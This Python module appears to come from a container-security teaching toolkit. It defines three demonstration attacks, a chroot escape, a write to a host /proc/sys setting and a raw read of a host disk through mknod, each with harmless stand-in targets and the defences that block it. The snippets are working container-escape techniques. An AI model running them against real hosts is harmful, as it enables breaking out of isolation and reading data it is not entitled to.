"""Attacks on files: through the root, on the kernel's settings, on a disk."""

import contextlib
import os
import secrets
import subprocess
import tempfile

from toolkit.core.errors import UnsupportedError
from toolkit.linux.lock import wait_lock
from toolkit.notebook.attacks.attack import Attack, Defence, Target, Verdict

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Generator

    from toolkit.notebook.trial import Ran
    from toolkit.runtime.steps import Step


@contextlib.contextmanager
def secret_file() -> "Generator[Target]":
    """Have a file of the host's, for root alone, with a word in it that nobody can guess."""
    with tempfile.TemporaryDirectory(prefix="container-toolkit-arena-") as directory:
        word = secrets.token_hex(8)
        path = f"{directory}/secret"
        with open(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600), "w") as file:
            file.write(word)
        yield Target((path,), word, lambda: f"the host's {path} contains {word}")


def judge_secret(ran: "Ran", target: Target) -> Verdict:
    """Whoever prints the word has read the file."""
    has_read = target.secret in ran.output
    told = "the program printed it" if has_read else "the program did not get it"
    return Verdict(has_read, f"{target.look()}: {told}")


# Out through the root


def _with_chroot(plan: "tuple[Step, ...]") -> "tuple[Step, ...]":
    """Give the container its root by chroot, as it was done before there was pivot_root."""
    from toolkit.runtime.steps import ChangeRoot, MountOverlay, PivotRoot

    path = next(step.target for step in plan if isinstance(step, MountOverlay))
    return tuple(ChangeRoot(path) if isinstance(step, PivotRoot) else step for step in plan)


CHROOT_ESCAPE = Attack(
    "chroot escape",
    "Keeps a directory open, changes its root to another one, and walks up from the open one: past the root that it "
    "no longer stands in.",
    """
    root = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/deeper", exist_ok=True)
    os.chroot("/tmp/deeper")        # / is now below the open directory...
    os.fchdir(root)                 # ...so that there is no root on the way up from it
    for _ in range(32):
        os.chdir("..")
    os.chroot(".")
    print("at the top:", *sorted(os.listdir("/"))[:8], flush=True)
    print("the host's secret:", open(sys.argv[1]).read())
    """,
    (
        Defence(
            "CAP_SYS_CHROOT dropped",
            "Without CAP_SYS_CHROOT it may not call chroot, and from a root that it cannot change it cannot climb out.",
            on={"cap_drop": ("SYS_CHROOT",)},
            is_usual=False,
        ),
        Defence(
            "pivot_root",
            "pivot_root has taken the host's root away from this mount namespace: at the top there is nothing else.",
            alter=_with_chroot,
        ),
    ),
    judge_secret,
    "chroot changes a name only: the host's root is still mounted there, and whoever may call chroot gets back to it.",
    secret_file,
    "chroot(2), pivot_root(2)",
)


# The kernel's settings

_SETTING = "/proc/sys/vm/stat_interval"


def _read(path: str) -> str:
    with open(path) as file:
        return file.read().strip()


@contextlib.contextmanager
def _setting() -> "Generator[Target]":
    """Have a setting of the whole machine's that does no harm (how often it counts pages); put it back.

    One at a time on the machine: another's value would be taken for the one to put back.
    """
    with open(_SETTING) as held:
        wait_lock(held.fileno())
        before = held.read().strip()
        wanted = str(int(before) + 7)
        try:
            yield Target(
                (_SETTING, wanted), wanted, lambda: f"on the host, {_SETTING} was {before} and is {_read(_SETTING)}"
            )
        finally:
            if _read(_SETTING) != before:
                with open(_SETTING, "w") as file:
                    file.write(before)


def _judge_setting(_ran: "Ran", target: Target) -> Verdict:
    return Verdict(_read(_SETTING) == target.secret, target.look())


KERNEL_SETTING = Attack(
    "change a kernel setting",
    "Writes to a file of /proc/sys that is the whole machine's: here one that does no harm, and is put back.",
    """
    path, value = sys.argv[1:]
    with open(path, "w") as file:
        file.write(value)
    print("wrote", value, "to", path)
    """,
    (
        Defence(
            "read-only /proc/sys",
            "/proc/sys is mounted read-only over itself in the container: the kernel says EROFS and looks no further.",
            off={"security_opt": ("systempaths=unconfined",)},
        ),
        Defence(
            "user namespace",
            "Root of a user namespace is somebody else outside: the file is not his to write, the kernel says EACCES.",
            on={"userns_mode": "private"},
            is_usual=False,
        ),
    ),
    _judge_setting,
    "Root in the container is root of the machine (uid 0), and this setting belongs to no namespace.",
    _setting,
    "proc_sys(5), user_namespaces(7)",
)


# A disk

_BLOCK_BYTES = 24
_DISK_BYTES = 1 << 20


def _losetup(*arguments: str) -> str:
    try:
        done = subprocess.run(["losetup", *arguments], capture_output=True, text=True, check=True)
    except FileNotFoundError as exc:
        raise UnsupportedError("this machine has no losetup to make a disk with", hint="install util-linux") from exc
    except subprocess.CalledProcessError as exc:
        message = f"no disk could be made of a file: {str(exc.stderr).strip()}"
        raise UnsupportedError(message, hint="load the kernel's module loop") from exc
    return done.stdout.strip()


@contextlib.contextmanager
def _disk() -> "Generator[Target]":
    """Have a disk on the host, made of a file, with a block on it that nobody can guess."""
    with tempfile.TemporaryDirectory(prefix="container-toolkit-arena-") as directory:
        secret = secrets.token_bytes(_BLOCK_BYTES)
        with open(f"{directory}/disk", "wb") as file:
            file.write(secret.ljust(_DISK_BYTES, b"\0"))
        path = _losetup("--find", "--show", "--read-only", file.name)
        fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
        try:
            _losetup("--detach", path)  # when the last who has it open closes it, be it by dying
            number = os.fstat(fd).st_rdev
            device = f"{os.major(number)}:{os.minor(number)}"
            yield Target(
                (str(os.major(number)), str(os.minor(number)), str(_BLOCK_BYTES)),
                secret.hex(),
                lambda: f"the host's disk {path} is device {device}",
                {"device_cgroup_rules": (f"b {device} rm",)},
            )
        finally:
            os.close(fd)


def _judge_disk(ran: "Ran", target: Target) -> Verdict:
    has_read = target.secret in ran.output
    what = "the same bytes were read in the container" if has_read else "none of its bytes were read in the container"
    return Verdict(has_read, f"{target.look()}: {what}")


READ_THE_DISK = Attack(
    "read the host's disk",
    "Makes a device node with the numbers of a disk of the host's, and reads from it: every file is there, whatever "
    "its permissions say. (The disk is one made of a file, for this.)",
    """
    major, minor, size = map(int, sys.argv[1:])
    os.mknod("/tmp/disk", 0o60600, os.makedev(major, minor))
    print("made a node for device", f"{major}:{minor}", flush=True)
    disk = os.open("/tmp/disk", os.O_RDONLY)
    print("read:", os.read(disk, size).hex())
    """,
    (
        Defence(
            "CAP_MKNOD dropped",
            "Without CAP_MKNOD there is no node to open: mknod says EPERM.",
            on={"cap_drop": ("MKNOD",)},
            is_usual=False,
        ),
        Defence(
            "device cgroup",
            "The node can be made, but the container's device cgroup does not have this disk: open says EPERM.",
            is_of_target=True,
        ),
    ),
    _judge_disk,
    "A node is a name for a pair of numbers; who may open it reads the disk below all file systems.",
    _disk,
    "mknod(2), cgroups(7) devices",
)
